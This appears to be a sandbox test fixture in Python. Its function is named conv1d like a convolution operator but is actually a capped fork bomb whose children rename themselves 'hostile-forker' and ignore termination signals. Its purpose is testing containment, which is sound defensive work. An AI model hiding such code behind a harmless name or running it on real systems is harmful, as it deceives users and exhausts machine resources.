# ATTACK: a fork bomb whose processes name themselves `hostile-forker` and ignore SIGTERM and
# SIGHUP (capped at 400 forks per process so a broken sandbox does not take the machine down).
# MUST: the task fails or times out, nothing else is hurt, and no hostile-forker survives.
import ctypes
import os
import signal
import time


def conv1d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    for _ in range(400):
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.01)
            continue
        if pid == 0:
            ctypes.CDLL(None).prctl(15, b"hostile-forker", 0, 0, 0)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
